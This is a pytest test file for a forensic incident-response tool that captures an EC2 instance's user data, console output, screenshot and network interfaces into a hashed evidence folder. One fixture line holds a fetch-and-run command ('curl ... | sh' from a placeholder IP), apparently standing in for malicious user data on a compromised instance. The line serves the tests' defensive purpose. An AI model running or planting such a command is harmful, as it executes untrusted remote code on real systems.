"""capture: user data, network interfaces, console output and screenshot as
evidence in the case folder, hashed in the manifest.

moto does not implement GetConsoleScreenshot (HTTP 500 HTML page), so the
tests that need it run irfw through screenshot_proxy.ScreenshotProxy, which
answers that one action and forwards the rest to moto unchanged.
"""
import base64
import hashlib
import json
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from conftest import AMI  # noqa: E402
from screenshot_proxy import JPEG, ScreenshotProxy  # noqa: E402

CASE = "case-cap"
USER_DATA = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"


def seed(world, user_data=USER_DATA):
    """One instance with user data and a second ENI."""
    ec2 = world.client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24")["Subnet"]["SubnetId"]
    kw = {"UserData": user_data.decode()} if user_data else {}
    iid = ec2.run_instances(ImageId=AMI, MinCount=1, MaxCount=1, InstanceType="t3.micro", SubnetId=subnet,
                            **kw)["Instances"][0]["InstanceId"]
    eni = ec2.create_network_interface(SubnetId=subnet)["NetworkInterface"]["NetworkInterfaceId"]
    ec2.attach_network_interface(NetworkInterfaceId=eni, InstanceId=iid, DeviceIndex=1)
    return iid


def step(p, name="capture"):
    return next(s for s in p.json["instances"][0]["steps"] if s["step"] == name)


def artifacts(world, iid):
    return {a["name"]: a for a in world.manifest(CASE, iid)["artifacts"]}


def check_hashes(world, iid, names):
    """Each file is in the case folder and its SHA-256 is the manifest's."""
    arts = artifacts(world, iid)
    folder = world.evidence / CASE / iid
    for name in names:
        data = (folder / name).read_bytes()
        assert arts[name]["sha256"] == hashlib.sha256(data).hexdigest(), name
        assert arts[name]["size"] == len(data), name
        assert arts[name]["step"] == "capture"
    return arts


def test_capture_everything(world):
    iid = seed(world)
    conf = world.write_conf(["capture"])
    with ScreenshotProxy(world.moto.url) as proxy:
        p = world.irfw("--conf", conf, "-i", iid, "-o", "json", "--case-id", CASE,
                       env={"AWS_ENDPOINT_URL": proxy.url}, check_rc=0)
    s = step(p)
    assert s["status"] == "ok", s
    names = ["console-output.txt", "console-screenshot.jpg", "instance-attributes.json", "user-data.bin",
             "network-interfaces.json"]
    arts = check_hashes(world, iid, names)
    folder = world.evidence / CASE / iid
    assert arts["console-screenshot.jpg"]["media_type"] == "image/jpeg"
    assert arts["console-output.txt"]["media_type"] == "text/plain"

    # The screenshot is the image AWS sent, asked for with WakeUp.
    assert (folder / "console-screenshot.jpg").read_bytes() == JPEG
    assert proxy.screenshot_requests and proxy.screenshot_requests[0]["InstanceId"] == [iid]
    assert proxy.screenshot_requests[0]["WakeUp"] == ["true"]

    # Console output: what EC2 holds for the instance, decoded.
    ec2 = world.client("ec2")
    out = ec2.get_console_output(InstanceId=iid)["Output"]  # botocore decodes the base64
    assert (folder / "console-output.txt").read_text() == out
    assert out

    # User data: the raw bytes, and the API record beside them.
    assert (folder / "user-data.bin").read_bytes() == USER_DATA
    attrs = json.loads((folder / "instance-attributes.json").read_text())
    assert attrs["instanceId"] == iid
    assert base64.b64decode(attrs["userData"]["value"]) == USER_DATA

    # Every ENI attached to the instance.
    enis = json.loads((folder / "network-interfaces.json").read_text())["networkInterfaceSet"]
    want = {e["NetworkInterfaceId"] for e in
            ec2.describe_network_interfaces(Filters=[{"Name": "attachment.instance-id", "Values": [iid]}])[
                "NetworkInterfaces"]}
    assert {e["networkInterfaceId"] for e in enis} == want
    assert len(want) == 2

    # The core's own describe-instance.json is not duplicated by capture.
    assert [a for a in world.manifest(CASE, iid)["artifacts"] if a["name"].startswith("describe-instance")] == [
        arts["describe-instance.json"]]


def test_screenshot_unsupported_is_noted_not_failed(world):
    iid = seed(world, user_data=None)
    conf = world.write_conf(["capture"])
    with ScreenshotProxy(world.moto.url) as proxy:
        proxy.error = ("UnsupportedOperation", "This instance type does not support screenshots.")
        p = world.irfw("--conf", conf, "-i", iid, "-o", "json", "--case-id", CASE,
                       env={"AWS_ENDPOINT_URL": proxy.url}, check_rc=0)
    s = step(p)
    assert s["status"] == "ok", s
    assert "screenshot skipped: UnsupportedOperation: This instance type does not support screenshots." in \
        s["detail"]
    folder = world.evidence / CASE / iid
    assert not (folder / "console-screenshot.jpg").exists()
    # No user data: the attribute record, but no user-data.bin.
    check_hashes(world, iid, ["console-output.txt", "instance-attributes.json", "network-interfaces.json"])
    assert not (folder / "user-data.bin").exists()


def test_other_aws_error_fails_after_trying_every_part(world):
    """moto's own 500 for GetConsoleScreenshot is a real failure: FAILED,
    but everything else is still captured."""
    iid = seed(world)
    conf = world.write_conf(["capture"])
    p = world.irfw("--conf", conf, "-i", iid, "-o", "json", "--case-id", CASE, check_rc=1)
    s = step(p)
    assert s["status"] == "failed"
    assert "GetConsoleScreenshot" in s["detail"]
    assert "captured: console-output.txt" in s["detail"]
    check_hashes(world, iid, ["console-output.txt", "instance-attributes.json", "user-data.bin",
                              "network-interfaces.json"])


def test_only_screenshot(world):
    iid = seed(world)
    conf = world.write_conf(["capture"], {"capture": {"metadata": "false", "console_output": "no"}})
    with ScreenshotProxy(world.moto.url) as proxy:
        p = world.irfw("--conf", conf, "-i", iid, "-o", "json", "--case-id", CASE,
                       env={"AWS_ENDPOINT_URL": proxy.url}, check_rc=0)
    assert step(p)["status"] == "ok"
    assert set(artifacts(world, iid)) == {"describe-instance.json", "console-screenshot.jpg"}


def test_nothing_enabled_is_skipped(world):
    iid = seed(world)
    conf = world.write_conf(["capture"], {"capture": {"metadata": "false", "console_output": "false",
                                                      "screenshot": "false"}})
    p = world.irfw("--conf", conf, "-i", iid, "-o", "json", "--case-id", CASE, check_rc=0)
    s = step(p)
    assert s["status"] == "skipped"
    assert "nothing to capture" in s["detail"]


def test_unsupported_everywhere_is_skipped(world):
    iid = seed(world)
    conf = world.write_conf(["capture"], {"capture": {"metadata": "false", "console_output": "false"}})
    with ScreenshotProxy(world.moto.url) as proxy:
        proxy.error = ("UnsupportedOperation", "not on this instance type")
        p = world.irfw("--conf", conf, "-i", iid, "-o", "json", "--case-id", CASE,
                       env={"AWS_ENDPOINT_URL": proxy.url}, check_rc=0)
    s = step(p)
    assert s["status"] == "skipped", s
    assert "UnsupportedOperation: not on this instance type" in s["detail"]


def test_unknown_option_is_a_config_error(world):
    iid = seed(world)
    conf = world.write_conf(["capture"], {"capture": {"memory": "true"}})
    p = world.irfw("--conf", conf, "-i", iid, "-o", "json", "--case-id", CASE)
    assert p.returncode == 2
    assert "memory" in p.stderr


@pytest.mark.parametrize("jobs", [4])
def test_many_instances_in_parallel(world, jobs):
    ids = [seed(world) for _ in range(3)]
    conf = world.write_conf(["capture"], jobs=jobs)
    args = [a for i in ids for a in ("-i", i)]
    with ScreenshotProxy(world.moto.url) as proxy:
        p = world.irfw("--conf", conf, *args, "-o", "json", "--case-id", CASE,
                       env={"AWS_ENDPOINT_URL": proxy.url}, check_rc=0)
    assert all(s["status"] == "ok" for inst in p.json["instances"] for s in inst["steps"])
    for iid in ids:
        check_hashes(world, iid, ["console-output.txt", "console-screenshot.jpg", "user-data.bin"])
